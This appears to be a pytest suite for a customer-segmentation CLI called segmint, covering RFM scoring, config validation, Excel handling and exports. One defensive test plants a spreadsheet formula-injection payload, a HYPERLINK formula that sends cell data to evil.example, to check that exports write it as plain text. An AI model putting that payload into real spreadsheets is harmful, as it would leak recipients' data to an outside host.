        res = cli("features", data, "--rfm-thresholds", given, "--out", out)
        assert res.code == 0, res.err
        again = pd.read_csv(out, dtype={"customer_id": str})
        both = run.merge(again, on="customer_id", suffixes=("", "_again"))
        assert (both["rfm_score"].astype(str) == both["rfm_score_again"].astype(str)).all()
        assert set(both["f_score"]) == {1, 3}
        out.unlink()
    # a run folder from before rfm_thresholds.toml: its model's cut points
    (tmp_path / "run" / "rfm_thresholds.toml").unlink()
    res = cli("features", data, "--rfm-thresholds", tmp_path / "run", "--out", tmp_path / "o.csv")
    assert res.code == 0, res.err
    res = cli("features", data, "--rfm-thresholds", tmp_path, "--out", tmp_path / "p.csv")
    assert res.code == 2 and "without rfm_thresholds.toml or model.segmint" in res.err
    # inf in a run's [rfm] thresholds is kept as null: run.json stays strict JSON
    config = tmp_path / "segmint.toml"
    config.write_text("[rfm.thresholds]\n" + written.split("[thresholds]\n", 1)[1])
    res = cli("run", data, "--config", config, "--out", tmp_path / "fixed", "--k", "3")
    assert res.code == 0, res.err

    def strict(name):
        raise ValueError(f"not JSON: {name}")

    info = json.loads((tmp_path / "fixed" / "run.json").read_text(), parse_constant=strict)
    assert info["config"]["rfm"]["thresholds"]["frequency"] == [2.0, 2.0, None, None]
    # run --rfm-thresholds (there was no such option: only inline numbers in a config
    # file): another period on the first run's scale, the flag over the file's numbers
    later = lines[lines["CustomerID"].astype(int) < 100]  # a period of other customers
    later.to_csv(tmp_path / "later.csv", index=False)
    config.write_text("[rfm.thresholds]\nrecency_days = [1, 2, 3, 4]\n")  # overridden
    for given in (tmp_path / "fixed", tmp_path / "fixed" / "rfm_thresholds.toml"):
        res = cli(
            "run", tmp_path / "later.csv", "--config", config, "--rfm-thresholds", given,
            "--out", tmp_path / "later", "--k", "3", "--overwrite",
        )  # fmt: skip
        assert res.code == 0, res.err
        assert (tmp_path / "later" / "rfm_thresholds.toml").read_text() == (
            tmp_path / "fixed" / "rfm_thresholds.toml"
        ).read_text()
        kept = pd.read_parquet(tmp_path / "later" / "customers.parquet")
        same = kept.merge(run, on="customer_id", suffixes=("", "_first"))
        assert len(same) == 100
        assert (same["rfm_score"].astype(str) == same["rfm_score_first"].astype(str)).all()
    res = cli("run", data, "--rfm-thresholds", tmp_path, "--out", tmp_path / "never")
    assert res.code == 2 and "without rfm_thresholds.toml or model.segmint" in res.err
    assert not (tmp_path / "never").exists()


def test_scoring_data_unlike_the_training_data_warns(
    cli, shop_csv: Path, shop_run: Path, tmp_path: Path
) -> None:
    """Features come from the scored file alone: a month of lines made Online Retail's
    Champions look new, and a customer-level table was scored by a model of transaction
    lines, both without a word. Each now gets a note (CLI warning, JSON, attrs); the
    training file itself gets none."""
    model = segmint.load_model(shop_run / "model.segmint")
    assert model.metadata["training"]["history_days"] > 300
    full = model.score(str(shop_csv))
    assert full.attrs["notes"] == []
    lines = pd.read_csv(shop_csv)
    dates = pd.to_datetime(lines["InvoiceDate"])
    month = tmp_path / "last_month.csv"
    lines[dates >= dates.max() - pd.Timedelta(days=30)].to_csv(month, index=False)
    res = cli("score", shop_run, month, "--out", tmp_path / "m.parquet", "--json")
    assert res.code == 0, res.err
    notes = json.loads(res.out)["notes"]
    assert len(notes) == 1 and "days of history, the model was trained on" in notes[0]
    assert "full history" in res.err  # the warning on the terminal too
    feats = tmp_path / "customers.csv"  # a customer-level table of the same shop
    table = pd.read_parquet(shop_run / "customers.parquet")
    table[["customer_id", "recency_days", "frequency", "monetary", "tenure_days"]].to_csv(
        feats, index=False
    )
    scored = model.score(str(feats))
    assert any("trained on transaction lines" in n for n in scored.attrs["notes"])
    bigger = tmp_path / "other_currency.csv"  # every amount x 1000: out of range
    lines.assign(UnitPrice=lines["UnitPrice"] * 1000).to_csv(bigger, index=False)
    notes = model.score(str(bigger)).attrs["notes"]
    assert any("outside the training range" in n for n in notes)


def test_a_window_longer_than_the_history_does_not_warn_on_the_training_file(
    cli, shop_csv: Path, tmp_path: Path
) -> None:
    """A model trained with --window 12M on two months of lines warned, when scoring
    that very file, that it "covers 61 days of history, the model was trained on 366
    days": the window's length was taken for the training history."""
    lines = pd.read_csv(shop_csv)
    dates = pd.to_datetime(lines["InvoiceDate"])
    short = tmp_path / "two_months.csv"
    lines[dates >= dates.max() - pd.Timedelta(days=60)].to_csv(short, index=False)
    out = tmp_path / "run"
    args = ("run", short, "--out", out, "--window", "12M", "--k", "3", "--algorithm", "kmeans")
    assert cli(*args, "--no-clv").code == 0
    res = cli("score", out, short, "--out", tmp_path / "s.parquet", "--json")
    assert res.code == 0, res.err
    assert json.loads(res.out)["notes"] == []
    month = tmp_path / "last_week.csv"  # much shorter than the training history: a note
    lines[dates >= dates.max() - pd.Timedelta(days=7)].to_csv(month, index=False)
    res = cli("score", out, month, "--out", tmp_path / "w.parquet", "--json")
    assert res.code == 0, res.err
    assert any(
        "days of history, the model was trained on" in n for n in json.loads(res.out)["notes"]
    )


def test_a_searched_two_segment_choice_points_to_the_choice_by_the_future(
    cli, tmp_path: Path
) -> None:
    """The geometric scores favour two segments, which the back-test rates the weakest
    predictor on Online Retail; a search that ends there says what else to try. A k of
    2 asked for does not."""
    rng = np.random.default_rng(0)
    rows = []
    for c in range(160):  # two far-apart kinds of buyer: the search settles on two
        heavy = c % 2 == 0
        for i in range(int(rng.integers(20, 30)) if heavy else 1):
            day = pd.Timestamp("2011-01-03") + pd.Timedelta(days=int(rng.integers(0, 360)))
            price = float(rng.uniform(80, 120) if heavy else rng.uniform(2, 6))
            rows.append((f"{c}", f"{c}-{i}", day, 1, price))
    data = tmp_path / "two_kinds.csv"
    pd.DataFrame(
        rows, columns=["CustomerID", "InvoiceNo", "InvoiceDate", "Quantity", "UnitPrice"]
    ).assign(StockCode="A").to_csv(data, index=False)
    res = cli("run", data, "--out", tmp_path / "a", "--no-clv", "--json")
    assert res.code == 0, res.err
    info = json.loads(res.out)
    assert info["n_segments"] == 2 and "--select-by future" in info["tip"]
    res = cli("run", data, "--out", tmp_path / "c", "--no-clv")
    assert "Tip:" in res.out and "--select-by future" in " ".join(res.out.split())
    # two segments asked for, or a search the user kept under four: no tip
    for args in (("--k", "2"), ("--k-max", "3")):
        res = cli("run", data, "--out", tmp_path / args[0][2:], *args, "--no-clv", "--json")
        assert res.code == 0 and json.loads(res.out)["tip"] is None, args


def test_run_select_by_future(cli, shop_csv: Path, tmp_path: Path) -> None:
    out = tmp_path / "future"
    r = cli(
        "run", shop_csv, "--out", out, "--select-by", "future", "--future-horizon", "60D",
        "--k-max", "6", "--no-clv", "--json",
    )  # fmt: skip
    assert r.code == 0, r.err
    info = json.loads(r.out)
    choice = json.loads((out / "future_selection.json").read_text())
    assert choice["horizon"] == "60D"
    chosen = [c for c in choice["candidates"] if c["chosen"]]
    assert len(chosen) == 1 and chosen[0]["algorithm"] == choice["algorithm"]
    assert info["model"] == choice["algorithm"]
    if choice["k"] is not None:  # a value tier is one segment more
        assert info["n_segments"] == choice["k"] + (choice["value_tier"] is not None)
    assert info["explanation"].startswith("Chosen by the future")
    # the split ends where the run's data end: cutoff = snapshot - horizon
    snapshot = json.loads((out / "summary.json").read_text())["data"]["snapshot_date"]
    assert pd.Timestamp(choice["cutoff"]) == pd.Timestamp(snapshot) - pd.Timedelta(days=60)
    assert not (out / "clv.json").exists()
    assert 'id="future-selection"' in (out / "report.html").read_text()
    bad = cli("run", shop_csv, "--out", tmp_path / "x", "--select-by", "luck")
    assert bad.code == 2 and "select_by" in bad.err


def test_run_with_a_value_tier(cli, shop_csv: Path, tmp_path: Path) -> None:
    """`--value-tier`: the top share by monetary value is its own segment in the run's
    summary, assignments and the saved model."""
    from segmint.bundle import load_model

    out = tmp_path / "tier"
    r = cli(
        "run", shop_csv, "--out", out, "--value-tier", "0.05", "--algorithm", "kmeans",
        "--k", "3", "--no-clv", "--json",
    )  # fmt: skip
    assert r.code == 0, r.err
    info = json.loads(r.out)
    assert info["n_segments"] == 4 and "value tier" in info["explanation"]
    model = load_model(out / "model.segmint")
    tier = model.segmenter.tier_segment_
    customers = pd.read_parquet(out / "customers.parquet")
    top = customers["monetary"] > model.segmenter.tier_threshold_
    assert top.sum() > 0 and ((customers["segment_id"] == tier) == top).all()
    assert np.array_equal(model.predict(customers), customers["segment_id"])
    # the profile says which segment is the tier and where it starts
    segments = pd.read_csv(out / "segments.csv").set_index("segment_id")
    threshold = model.segmenter.tier_threshold_
    note = f"value tier: the top 5% of customers by monetary value (above {threshold:,.2f})"
    assert segments.loc[tier, "description"].startswith(note + "; median:")
    assert not segments.drop(index=tier)["description"].str.contains("value tier").any()
    assert note in (out / "report.html").read_text()
    bad = cli("run", shop_csv, "--out", tmp_path / "x", "--value-tier", "0.9")
    assert bad.code == 2 and "value_tier" in bad.err and "Traceback" not in bad.err


def test_numpy_fast_path_gives_the_same_assignments(shop_run: Path) -> None:
    """The API's pandas-free path (`assign_columns`) equals `assign` row for row,
    including customers outside the training range."""
    import numpy as np

    model = segmint.load_model(shop_run / "model.segmint")
    assert model.numeric_only
    customers = pd.read_parquet(shop_run / "customers.parquet")
    frame = customers[["customer_id", *model.features]].copy()
    frame.loc[:4, "monetary"] = frame["monetary"].max() * 10  # out of range
    frame.loc[5:9, "recency_days"] = 0
    slow = model.assign(frame, model.rfm(frame))
    fast = model.assign_columns(
        {c: frame[c].to_numpy() for c in model.features}, frame["customer_id"]
    )
    np.testing.assert_array_equal(fast["segment_id"], slow["segment_id"].to_numpy())
    np.testing.assert_array_equal(fast["distance"], slow["distance"].to_numpy())
    np.testing.assert_array_equal(fast["confidence"], slow["confidence"].to_numpy())
    assert fast["segment_name"] == slow["segment_name"].tolist()
    assert fast["rfm_segment"] == slow["rfm_segment"].tolist()
    assert fast["rfm_score"] == slow["rfm_score"].tolist()
    assert fast["rfm_rule_set"] == slow["rfm_rule_set"].tolist()
    np.testing.assert_array_equal(fast["out_of_range"], slow["out_of_range"].to_numpy())
    assert [",".join(f) for f in fast["out_of_range_features"]] == slow[
        "out_of_range_features"
    ].tolist()
    assert fast["out_of_range"][:5].all()


def test_select_by_future_without_enough_history_is_one_line(cli, tmp_path: Path) -> None:
    lines, _ = make_transactions(n_customers=200, seed=0)
    dates = pd.to_datetime(lines["InvoiceDate"])
    short = tmp_path / "short.csv"
    lines[dates > dates.max() - pd.Timedelta(days=60)].to_csv(short, index=False)
    r = cli("run", short, "--out", tmp_path / "o", "--select-by", "future")
    _assert_one_line_error(r, "select_by = future", "before the selection split")
    assert not (tmp_path / "o").exists()
    typo = cli("run", short, "--out", tmp_path / "o", "--select-by", "future",
               "--future-cutoff", "nope")  # fmt: skip
    _assert_one_line_error(typo, "--future-cutoff", "'nope' is not a date")
    # a split given before the data start: the message blamed "snapshot minus 90D" and
    # advised a shorter --future-horizon, which does not move a split that was given
    first = dates[dates > dates.max() - pd.Timedelta(days=60)].min().date()
    early = cli("run", short, "--out", tmp_path / "o", "--select-by", "future",
                "--future-horizon", "30D", "--future-cutoff", str(first))  # fmt: skip
    _assert_one_line_error(early, "before the selection split --future-cutoff")
    assert "minus" not in early.err and "later --future-cutoff" in early.err
    late = cli("run", short, "--out", tmp_path / "o", "--select-by", "future",
               "--future-horizon", "30D", "--future-cutoff", str(dates.max().date()))  # fmt: skip
    _assert_one_line_error(late, "--future-cutoff (segment.future_cutoff)", "runs past")


def test_a_model_trained_on_an_excel_sheet_scores_a_csv(tmp_path: Path) -> None:
    """The training workbook's sheet applies to a later workbook, not to a CSV (which
    would be refused: --sheet applies to Excel files)."""
    lines, _ = make_transactions(n_customers=120, seed=5)
    book = tmp_path / "sales.xlsx"
    with pd.ExcelWriter(book) as xl:
        lines.head(5).to_excel(xl, sheet_name="notes", index=False)
        lines.to_excel(xl, sheet_name="2024", index=False)
    out = tmp_path / "run"
    segmint.run(str(book), {"load": {"sheet": "2024"}, "segment": {"n_clusters": 3}}, out=out)
    csv_path = tmp_path / "new.csv"
    lines.to_csv(csv_path, index=False)
    model = segmint.load_model(out / "model.segmint")
    scored = model.score(str(csv_path))
    n = pd.read_parquet(out / "customers.parquet").shape[0]
    assert len(scored) == n
    # a later workbook of the same layout is read from the training sheet ("notes" first)
    assert len(model.score(str(book))) == n


def test_score_takes_the_reading_options_of_run(cli, shop_run: Path, tmp_path: Path) -> None:
    """`score` lacked --sheet, --all-sheets, --header, --kind and --mapping, so a
    workbook whose lines are on its second sheet could not be scored at all."""
    lines, _ = make_transactions(n_customers=60, seed=9)
    book = tmp_path / "new.xlsx"
    with pd.ExcelWriter(book) as xl:
        pd.DataFrame({"note": ["exported by the shop"]}).to_excel(xl, sheet_name="about")
        lines.rename(columns={"CustomerID": "Kunde"}).to_excel(xl, sheet_name="lines", index=False)
    mapping = tmp_path / "mapping.toml"
    mapping.write_text('[columns]\ncustomer_id = "Kunde"\n')
    res = cli("score", shop_run, book, "--out", tmp_path / "s.csv")
    assert res.code == 2  # the first sheet has no transactions
    res = cli(
        "score", shop_run, book, "--sheet", "lines", "--mapping", mapping,
        "--kind", "transactions", "--out", tmp_path / "s.csv",
    )  # fmt: skip
    assert res.code == 0, res.err
    scored = pd.read_csv(tmp_path / "s.csv", dtype={"customer_id": str})
    assert len(scored) == lines["CustomerID"].nunique()
    # a model trained on every sheet still scores the one sheet asked for
    other, _ = make_transactions(n_customers=40, seed=10)
    two = tmp_path / "two.xlsx"
    with pd.ExcelWriter(two) as xl:
        lines.to_excel(xl, sheet_name="a", index=False)
        other.assign(CustomerID=other["CustomerID"] + 100_000).to_excel(
            xl, sheet_name="b", index=False
        )
    res = cli("run", two, "--all-sheets", "--k", "3", "--no-clv", "--out", tmp_path / "all")
    assert res.code == 0, res.err
    res = cli("score", tmp_path / "all", two, "--sheet", "b", "--out", tmp_path / "b.csv")
    assert res.code == 0, res.err
    scored = pd.read_csv(tmp_path / "b.csv", dtype={"customer_id": str})
    assert len(scored) == other["CustomerID"].nunique()


def test_run_takes_the_cleaning_options_of_clean(cli, shop_csv: Path, tmp_path: Path) -> None:
    """--disable-rule, --keep-duplicates, --outlier-quantile and --non-product were only
    options of clean/inspect/features; the README and error hints name them for run."""
    out = tmp_path / "run"
    res = cli("run", shop_csv, "--out", out, "--algorithm", "kmeans", "--k", "3", "--no-clv",
              "--disable-rule", "cancellation", "--keep-duplicates", "--outlier-quantile",
              "0.9999", "--non-product", "POST")  # fmt: skip
    assert res.code == 0, res.err
    audit = json.loads((out / "audit.json").read_text())
    rules = {r["name"]: r for r in audit["rules"]}
    assert not rules["cancellation"]["enabled"] and rules["cancellation"]["dropped"] == 0
    assert not rules["duplicate"]["enabled"]
    assert rules["outlier"]["enabled"]
    assert audit["settings"]["non_product_codes"] == ["POST"]


def test_export_file_names_are_unique_per_segment() -> None:
    """Segment names that slug alike ("At risk" / "At-risk", or Cyrillic names, which
    all became "segment") wrote one file over the other."""
    from segmint.export import _unique_slugs

    names = ["At risk", "At-risk", "Лояльные", "Спящие", "***"]
    frame = pd.DataFrame({"segment_name": names, "customer_id": list("abcde")})
    slugs = [s for s, _ in _unique_slugs(names, frame)]
    assert slugs == ["at_risk", "at_risk_2", "лояльные", "спящие", "segment"]


def test_export_xlsx_writes_text_as_text(cli, shop_run: Path, tmp_path: Path) -> None:
    """A customer id or segment name that looks like a formula or a link is a text cell
    in an Excel export: xlsxwriter's defaults made ``=HYPERLINK(...)`` from the source
    data a live formula in a campaign list (it sends the sheet's data wherever it links)."""
    import shutil
    import zipfile

    run = tmp_path / "run"
    shutil.copytree(shop_run, run)
    customers = pd.read_parquet(run / "customers.parquet")
    evil = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
    customers.loc[0, "customer_id"] = evil
    customers.loc[1, "customer_id"] = "https://evil.example/x"
    customers.loc[customers["segment_id"] == customers.loc[0, "segment_id"], "segment_name"] = (
        "=1+1"
    )
    customers.to_parquet(run / "customers.parquet")
    r = cli("export", run, "--format", "xlsx", "--single-file", "--out", tmp_path / "x")
    assert r.code == 0, r.err
    book = tmp_path / "x" / "campaign.xlsx"
    with zipfile.ZipFile(book) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet  # no formula cells
        assert not [
            n for n in z.namelist() if "hyperlink" in n.lower() or "rels" in n and "sheet" in n
        ]
    back = pd.read_excel(book, dtype={"customer_id": str}, engine="calamine")
    assert {evil, "https://evil.example/x"} <= set(back["customer_id"])
    assert "=1+1" in set(back["segment_name"])


def test_export_a_segment_asked_for_twice_is_one_list(cli, shop_run: Path, tmp_path: Path) -> None:
    """`--segment champions --segment Champions` wrote champions.csv and champions_2.csv
    with the same customers: a campaign tool fed the folder mailed them twice."""
    customers = pd.read_parquet(shop_run / "customers.parquet")
    name = customers["segment_name"].iloc[0]
    out = tmp_path / "lists"
    r = cli("export", shop_run, "-s", name.lower(), "-s", name, "-s", name.upper(), "--out", out)
    assert r.code == 0, r.err
    files = sorted(f.name for f in out.iterdir() if f.name != "exports.json")
    assert len(files) == 1, files
    lst = pd.read_csv(out / files[0], dtype={"customer_id": str})
    assert not lst["customer_id"].duplicated().any()
    assert len(lst) == (customers["segment_name"] == name).sum()
    manifest = json.loads((out / "exports.json").read_text())
    assert [f["file"] for f in manifest["files"]] == files


def test_an_export_that_fails_leaves_the_previous_export_whole(
    cli, shop_run: Path, tmp_path: Path
) -> None:
    """A folder where a list goes made the export fail part way: the lists written
    before it were left beside the previous export's, unlisted in an exports.json still
    naming the old set (a downstream ``*.csv`` mixed two exports), and the error named a
    hidden temporary file. Now it fails before writing anything, naming the list."""
    from segmint.export import _slug

    customers = pd.read_parquet(shop_run / "customers.parquet")
    names = list(dict.fromkeys(customers.sort_values("segment_id")["segment_name"]))
    out = tmp_path / "lists"
    assert cli("export", shop_run, "-s", names[0], "--out", out).code == 0
    before = {f.name: f.read_bytes() for f in out.iterdir()}
    blocker = out / (_slug(names[-1]) + ".csv")
    (blocker / "x").mkdir(parents=True)
    r = cli("export", shop_run, "--out", out)
    _assert_one_line_error(r, str(blocker), "nothing was exported")
    after = {f.name: f.read_bytes() for f in out.iterdir() if f != blocker}
    assert after == before  # no new list, no temporary file, the same manifest


def test_sheet_number_in_segmint_toml_is_the_sheet_at_that_position(tmp_path: Path) -> None:
    """`sheet = 0` (a number, as the key's description says) was refused as "Input should
    be a valid string"; it is the first sheet, as "0" is."""
    from segmint.config import load_run_config
    from segmint.errors import ConfigError

    cfg = tmp_path / "segmint.toml"
    cfg.write_text("[load]\nsheet = 0\n")
    assert load_run_config(cfg).load.sheet == "0"
    cfg.write_text("[load]\nsheet = true\n")
    with pytest.raises(ConfigError, match="load.sheet"):
        load_run_config(cfg)


def test_a_misspelt_algorithm_parameter_is_a_config_error(
    cli, shop_csv: Path, tmp_path: Path
) -> None:
    """`algorithm_params = {kmeans = {n_int = 10}}` in segmint.toml was an internal error
    (exit 70, "KMeans.__init__() got an unexpected keyword argument") after the data were
    read; it is refused first, naming the file, the key and the closest parameter."""
    from segmint.errors import ConfigError
    from segmint.segment import Segmenter

    toml = tmp_path / "segmint.toml"
    toml.write_text("[segment]\nalgorithm_params = {kmeans = {n_int = 10}}\n")
    out = tmp_path / "run"
    r = cli("run", shop_csv, "--config", toml, "--out", out, "--no-clv")
    _assert_one_line_error(r, str(toml), "segment.algorithm_params", "'n_int'", "'n_init'")
    assert not out.exists()
    # a data file that does not exist is not reached: the configuration is checked first
    r = cli("run", tmp_path / "missing.csv", "--config", toml, "--out", out)
    _assert_one_line_error(r, "'n_int'")
    # the estimator itself refuses it as a ConfigError, not a TypeError from scikit-learn
    lines, _ = make_transactions(n_customers=200, seed=1)
    feats = segmint.run(lines, {"segment": {"n_clusters": 3}, "clv": {"enabled": False}})
    seg = Segmenter(algorithm="kmeans", n_clusters=3, algorithm_params={"kmeans": {"n_int": 3}})
    with pytest.raises(ConfigError, match="n_int"):
        seg.fit(feats.customers)


def test_an_algorithm_parameter_out_of_range_is_refused_before_the_data(
    cli, shop_csv: Path, tmp_path: Path
) -> None:
    """`algorithm_params = {kmeans = {n_init = -1}}` was refused by scikit-learn at the
    first fit, after the data were read, with a hint to try fewer segments; the value is
    checked with the configuration, naming the parameter and the allowed values."""
    from segmint.errors import ConfigError
    from segmint.segment import Segmenter

    toml = tmp_path / "segmint.toml"
    toml.write_text("[segment]\nalgorithm_params = {kmeans = {n_init = -1}}\n")
    out = tmp_path / "run"
    r = cli("run", tmp_path / "missing.csv", "--config", toml, "--out", out)
    _assert_one_line_error(r, str(toml), "'n_init'", "range [1, inf)", "Got -1")
    assert "fewer segments" not in r.err
    toml.write_text('[segment]\nalgorithm_params = {gmm = {covariance_type = "ful"}}\n')
    r = cli("run", tmp_path / "missing.csv", "--config", toml, "--out", out)
    _assert_one_line_error(r, "'covariance_type'", "'full'", "'ful'")
    # segmint's own DBSCAN eps = "auto" is a valid value, a min_samples of 0 is not
    toml.write_text('[segment]\nalgorithm_params = {dbscan = {eps = "auto", min_samples = 4}}\n')
    load_run_config(toml)
    seg = Segmenter(algorithm="dbscan", algorithm_params={"dbscan": {"min_samples": 0}})
    with pytest.raises(ConfigError, match="min_samples"):
        seg._algorithms()  # what fit() calls before it looks at the customers


def test_a_rule_set_file_in_segmint_toml_is_found_beside_it(
    cli, shop_csv: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`rule_set = "rules.csv"` in /crm/segmint.toml was looked up in the folder the job
    started in ("unknown rule set 'rules.csv'", after reading the data): a monthly job
    started from another folder could not use the configuration it was given."""
    crm = tmp_path / "crm"
    crm.mkdir()
    (crm / "rules.csv").write_text(
        "segment,r_min,r_max,f_min,f_max,m_min,m_max\n"
        "Recent buyers,4,5,1,5,1,5\nEarlier buyers,1,3,1,5,1,5\n"
    )
    (crm / "segmint.toml").write_text('[rfm]\nrule_set = "rules.csv"\n')
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    out = tmp_path / "run"
    r = cli("run", shop_csv, "--config", crm / "segmint.toml", "--out", out, "--no-clv", "--k", "3")
    assert r.code == 0, r.err
    customers = pd.read_parquet(out / "customers.parquet")
    assert set(customers["rfm_segment"]) == {"Recent buyers", "Earlier buyers"}
    # a flag's relative path still starts from the current folder
    (elsewhere / "mine.csv").write_text((crm / "rules.csv").read_text())
    r = cli("run", shop_csv, "--config", crm / "segmint.toml", "--rule-set", "mine.csv",
            "--out", tmp_path / "run2", "--no-clv", "--k", "3")  # fmt: skip
    assert r.code == 0, r.err
    # a missing file is named with the key, before the data are read
    (crm / "segmint.toml").write_text('[rfm]\nrule_set = "nothere.csv"\n')
    r = cli("run", tmp_path / "no-data.csv", "--config", crm / "segmint.toml", "--out", out)
    _assert_one_line_error(r, "rfm.rule_set", "nothere.csv", "not found")


@pytest.mark.parametrize(
    ("toml", "needles"),
    [
        ('[clv]\nhorizon = "12X"\n', ["clv.horizon", "'12X' is not a length of time"]),
        (
            '[segment]\nselect_by = "future"\nfuture_horizon = "12X"\n',
            ["segment.future_horizon", "'12X'"],
        ),
        ('[features]\nwindow = "1 year"\n', ["features.window", "'1 year'"]),
        ('[features]\nsnapshot_date = "2011-13-40"\n', ["features.snapshot_date", "not a date"]),
        ('[features]\nsnapshot_date = "01/12/2011"\n', ["features.snapshot_date", "YYYY-MM-DD"]),
        ('[segment]\nfuture_cutoff = "2011-02-30"\n', ["segment.future_cutoff", "not a date"]),
        ("[segment]\nk_min = 6\nk_max = 4\n", ["segment.k_min (6)", "segment.k_max (4)"]),
        # algorithms, log and clip were refused only once the data were read and the
        # features computed, naming neither the file nor the key
        ('[segment]\nalgorithm = "kmean"\n', ["segment.algorithm", "did you mean 'kmeans'"]),
        ('[segment]\nalgorithm = ["kmeans", "gmn"]\n', ["segment.algorithm", "'gmn'"]),
        ('[segment]\nlog = "sometimes"\n', ["segment.log", "'sometimes' is neither"]),
        ('[segment]\nlog = ["frequncy"]\n', ["segment.log", "did you mean 'frequency'"]),
        ("[segment]\nclip = -1\n", ["segment.clip", "not a percentile between 0.5 and 1"]),
        # refused only after the data were read (0, -1, sample_size 1), or cut without a
        # word (pca 1.5 became 1 component; Segmenter(pca=1.5) refused it)
        ("[segment]\npca = 0\n", ["segment.pca", "0.0 is neither a number of components"]),
        ("[segment]\npca = 1.5\n", ["segment.pca", "1.5 is neither a number of components"]),
        ("[segment]\nsample_size = 1\n", ["segment.sample_size", "10"]),
        (
            '[segment]\nvalue_tier = 0.02\nfeatures = ["recency_days", "frequency"]\n',
            ["segment.value_tier needs 'monetary'", "(recency_days, frequency)"],
        ),
        ("[load]\nsheet = -1\n", ["load.sheet", "numbers count from 0"]),
        ('[load]\nencoding = "utf-9"\n', ["load.encoding", "unknown encoding 'utf-9'"]),
        ('[load]\ndelimiter = ";;"\n', ["load.delimiter", "must be one character"]),
        ('[segments]\nnames = {Champions = "VIP"}\n', ["segments.names", "not a segment id"]),
        ('[segments]\nactions = {x = "Call"}\n', ["segments.actions", "'x'"]),
        (
            "[rfm]\nthresholds = {rec = [1, 2, 3, 4]}\n",
            ["rfm.thresholds", "did you mean 'recency_days'"],
        ),
        (
            "[rfm.thresholds]\nrecency_days = [180, 90, 30, 14]\nfrequency = [2, 3, 5]\n"
            "monetary = [1, 2, 3, 4]\n",
            ["rfm.thresholds", "frequency has 3 cut points, not four"],
        ),
        (
            "[rfm.thresholds]\nrecency_days = [180, 90, 30, 14]\n",
            ["rfm.thresholds", "no cut points for frequency, monetary"],
        ),
    ],
)
def test_bad_values_in_segmint_toml_name_the_key_before_the_data_are_read(
    cli, tmp_path: Path, toml: str, needles: list[str]
) -> None:
    """A bad `clv.horizon` was reported after the data were read and the features
    computed, as "horizon '12X' is not a length of time" (also for
    `segment.future_horizon`: which one?), and so were bad dates, windows and a k_min
    above k_max, without the file or key. They are refused first, naming both."""
    cfg = tmp_path / "segmint.toml"
    cfg.write_text(toml)
    # the data file does not exist: the configuration is checked before it is looked at
    r = cli("run", tmp_path / "no-data.csv", "--config", cfg, "--out", tmp_path / "o")
    _assert_one_line_error(r, str(cfg), *needles)


def test_report_says_one_time_buyers_look_active_by_construction(tmp_path: Path) -> None:
    """BG/NBD gives a customer with one purchase day a P(active) of 100 % however long ago
    they bought: the demo's report showed "Occasional low spenders" (all one-time buyers,
    median last purchase 130 days ago) at 100.0 %, above its Champions, without a word,
    and its columns did not say they were means per customer beside a total."""
    import html as html_lib

    lines, _ = make_transactions(n_customers=600, seed=4)
    out = tmp_path / "run"
    segmint.run(lines, {"segment": {"algorithm": "kmeans", "n_clusters": 5}}, out=out)
    clv = json.loads((out / "clv.json").read_text())
    shares = {s["name"]: s["one_purchase_share"] for s in clv["segments"]}
    customers = pd.read_parquet(out / "customers.parquet")
    for name, share in shares.items():
        seg = customers[customers["segment_name"] == name]
        assert share == pytest.approx((seg["frequency"] == 1).mean(), abs=0.05), name
    one_timers = [name for name, share in shares.items() if share >= 0.5]
    assert one_timers  # the synthetic shop has its one-time buyers
    page = html_lib.unescape((out / "report.html").read_text(encoding="utf-8"))
    section = page.split('id="clv"')[1].split("</section>")[0]
    assert "expected value per customer" in section and "P(active), mean" in section
    note = section.split('id="clv-one-purchase-note">')[1].split("</p>")[0]
    assert "bought on one day only" in note and all(name in note for name in one_timers)


_SLOW_IMPORT_RUN = """
import importlib.abc, sys, threading, time, warnings

class SlowImport(importlib.abc.MetaPathFinder):
    # a slow disk keeps the run's background import thread busy (vl_convert, the last
    # module it imports) while the models are fitted
    def find_spec(self, name, path=None, target=None):
        if name == "vl_convert":
            time.sleep(4)
        return None

sys.meta_path.insert(0, SlowImport())
import segmint
from segmint.datasets import make_transactions

lines, _ = make_transactions(n_customers=60, seed=3)
seen = []

def progress(stage):
    if stage == "searching segmentations":
        seen.append([t.name for t in threading.enumerate() if t.name == "segmint-imports"])

config = {"segment": {"algorithm": "kmeans", "k_max": 4}, "clv": {"enabled": False}}
segmint.run(lines, config, out=sys.argv[1], progress=progress)
print(seen)
"""


def test_run_fits_models_only_after_its_background_imports_are_done(tmp_path: Path) -> None:
    """The libraries of the later stages are imported in a background thread; skops
    enters ``warnings.catch_warnings()`` as it is imported, which on Python 3.11 restores
    the process-wide warning state it found when it leaves, undoing the fit's capture of
    scikit-learn's ConvergenceWarnings: a small run printed "ConvergenceWarning: Number
    of distinct clusters (3) found smaller than n_clusters (4)" with its source lines on
    stderr about one time in three. The thread is now joined before the models are
    fitted (here an import is made slow, so the thread is still running then)."""
    r = subprocess.run(
        [sys.executable, "-c", _SLOW_IMPORT_RUN, str(tmp_path / "run")],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip().splitlines()[-1] == "[[]]", r.stdout


def _six_customers(path: Path) -> Path:
    """Six customers of 2 to 7 orders each, as a shop's CSV export."""
    rows = [
        (
            f"{c}",
            f"{c}-{i}",
            f"2011-{1 + (3 * i + c) % 11:02d}-{1 + 4 * c:02d}",
            1 + c,
            2.5 * (c + 1) ** 2,
        )
        for c in range(6)
        for i in range(2 + c)
    ]
    pd.DataFrame(
        rows, columns=["CustomerID", "InvoiceNo", "InvoiceDate", "Quantity", "UnitPrice"]
    ).assign(StockCode="A").to_csv(path, index=False)
    return path


def test_run_says_when_its_customers_cut_the_searched_segment_counts(cli, tmp_path: Path) -> None:
    """`run --k-max 10` on 6 customers searched 2 to 5 segments without a word: the
    pipeline cut the range before the Segmenter, whose warning and explanation line say
    so, could see it. The run's explanation (terminal, --json, summary.json) and the
    warning on stderr now tell; a --k-min no customers allow is refused naming it."""
    data = _six_customers(tmp_path / "six.csv")
    res = cli("run", data, "--out", tmp_path / "a", "--k-max", "10", "--no-clv")
    assert res.code == 0, res.err
    said = "With 6 customers only 2 to 5 segments could be searched (k_range (2, 10))."
